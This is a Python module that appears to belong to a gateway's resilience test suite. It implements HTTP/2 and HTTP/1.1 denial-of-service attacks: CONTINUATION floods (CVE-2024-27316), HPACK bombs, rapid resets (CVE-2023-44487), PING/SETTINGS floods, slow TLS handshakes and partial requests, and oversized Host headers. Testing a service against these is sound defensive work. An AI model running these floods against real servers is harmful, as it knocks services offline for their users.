"""The protocol itself: heads, frames and handshakes."""

import socket
import time
from collections import Counter

from .. import hpack
from ..attack import Attack, Probe, Target
from ..http2 import (
    CONTINUATION,
    END_STREAM,
    HEADERS,
    PING,
    SETTINGS,
    Connection,
    connect,
    frame,
    until,
)


def continuation_flood(target: Target, seconds: float) -> str:
    """A header block that never ends: CONTINUATION frames, one after the other (CVE-2024-27316 and its kin)."""
    piece = hpack.literal("x", "y" * 8_000)
    return _floods(target, seconds, lambda connection, number: connection.send(frame(CONTINUATION, 0, 1, piece)), frame(HEADERS, END_STREAM, 1, hpack.literal(":method", "GET")))


def hpack_bomb(target: Target, seconds: float) -> str:
    """One large field in the dynamic table, named thousands of times in each header block."""
    field = hpack.indexed("x-bomb", "y" * 3_900)
    block = hpack.request("GET", "/") + field + b"\xbe" * 8_000  # the newest entry of the dynamic table

    def send(connection: Connection, number: int) -> None:
        connection.open(block)

    return _floods(target, seconds, send)


def header_flood(target: Target, seconds: float) -> str:
    """Heads of 30 kB, as large as they may be, without a token."""
    block = hpack.request("GET", "/api/v1/version", extra={f"x-{i}": "y" * 900 for i in range(16)})
    return _floods(target, seconds, lambda connection, number: connection.open(block))


def rapid_resets(target: Target, seconds: float) -> str:
    """Streams that are opened and cancelled at once (CVE-2023-44487)."""
    block = hpack.request("GET", "/api/v1/version", token="made-up")
    return _floods(target, seconds, lambda connection, number: connection.reset(connection.open(block)))


def pings(target: Target, seconds: float) -> str:
    """Pings, each of which is answered."""
    return _floods(target, seconds, lambda connection, number: connection.send(frame(PING, 0, 0, bytes(8)) * 100))


def settings(target: Target, seconds: float) -> str:
    """Settings, each of which is acknowledged."""
    return _floods(target, seconds, lambda connection, number: connection.send(frame(SETTINGS, 0, 0) * 100))


def slow_handshakes(target: Target, seconds: float) -> str:
    """3,000 connections to the port with TLS that begin a handshake and stop."""
    return _silent(target.tls_port, seconds, 3_000, b"\x16\x03\x01\x02\x00\x01")


def slow_heads(target: Target, seconds: float) -> str:
    """3,000 connections that send the beginning of a request."""
    return _silent(target.port, seconds, 3_000, b"GET / HTTP/1.1\r\nHost: gateway\r\nX: ")


def long_hosts(target: Target, seconds: float) -> str:
    """Host names of 8,000 characters."""
    raw = b"GET / HTTP/1.1\r\nHost: " + b"a" * 8_000 + b"\r\n\r\n"
    answers: Counter = Counter()
    for _ in until(seconds):
        with connect(target.port) as one:
            one.sendall(raw)
            try:
                answers[one.recv(12)[9:12].decode() or "closed"] += 1
            except OSError as e:
                answers[type(e).__name__] += 1
    return str(dict(answers))


def _floods(target: Target, seconds: float, send, first: bytes = b"") -> str:
    """Connection after connection, each as fast as it goes until the gateway closes it."""
    connections = sent = 0
    for _ in until(seconds):
        connection = Connection(target.port)
        connections += 1
        try:
            if first:
                connection.send(first)
            for number, _ in enumerate(until(seconds)):
                send(connection, number)
                sent += 1
                if connection.closed.is_set() or number > 50_000:
                    break
        except OSError:
            pass
        finally:
            connection.close()
    return f"{connections} connections, {sent} sent"


def _silent(port: int, seconds: float, number: int, beginning: bytes) -> str:
    held: list[socket.socket] = []
    refused = 0
    try:
        for _ in until(seconds / 2):
            if len(held) + refused == number:
                break
            try:
                held.append(connect(port))
                held[-1].sendall(beginning)
            except OSError:
                refused += 1
        time.sleep(seconds / 2)
        return f"{len(held)} begun, {refused} refused, {sum(_is_open(one) for one in held)} open at the end"
    finally:
        for one in held:
            one.close()


def _is_open(one: socket.socket) -> bool:
    """Whether the gateway has not closed it."""
    one.setblocking(False)
    try:
        return one.recv(1) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


def _long_host(target: Target) -> Probe:
    return Probe("GET", "/v1/environments", {"host": "a" * 8_000}, frozenset({"REQUEST_INVALID", "CALLER_UNKNOWN"}))


ATTACKS = [
    Attack("CONTINUATION frames without an end", "nothing", continuation_flood),
    Attack("HPACK fields that multiply", "nothing", hpack_bomb),
    Attack("heads as large as they may be", "nothing", header_flood),
    Attack("streams cancelled at once", "nothing", rapid_resets),
    Attack("pings", "nothing", pings),
    Attack("settings", "nothing", settings),
    Attack("3,000 TLS handshakes that stop", "nothing", slow_handshakes),
    Attack("3,000 heads that stop", "nothing", slow_heads),
    Attack("host names of 8,000 characters", "nothing", long_hosts, _long_host),
]
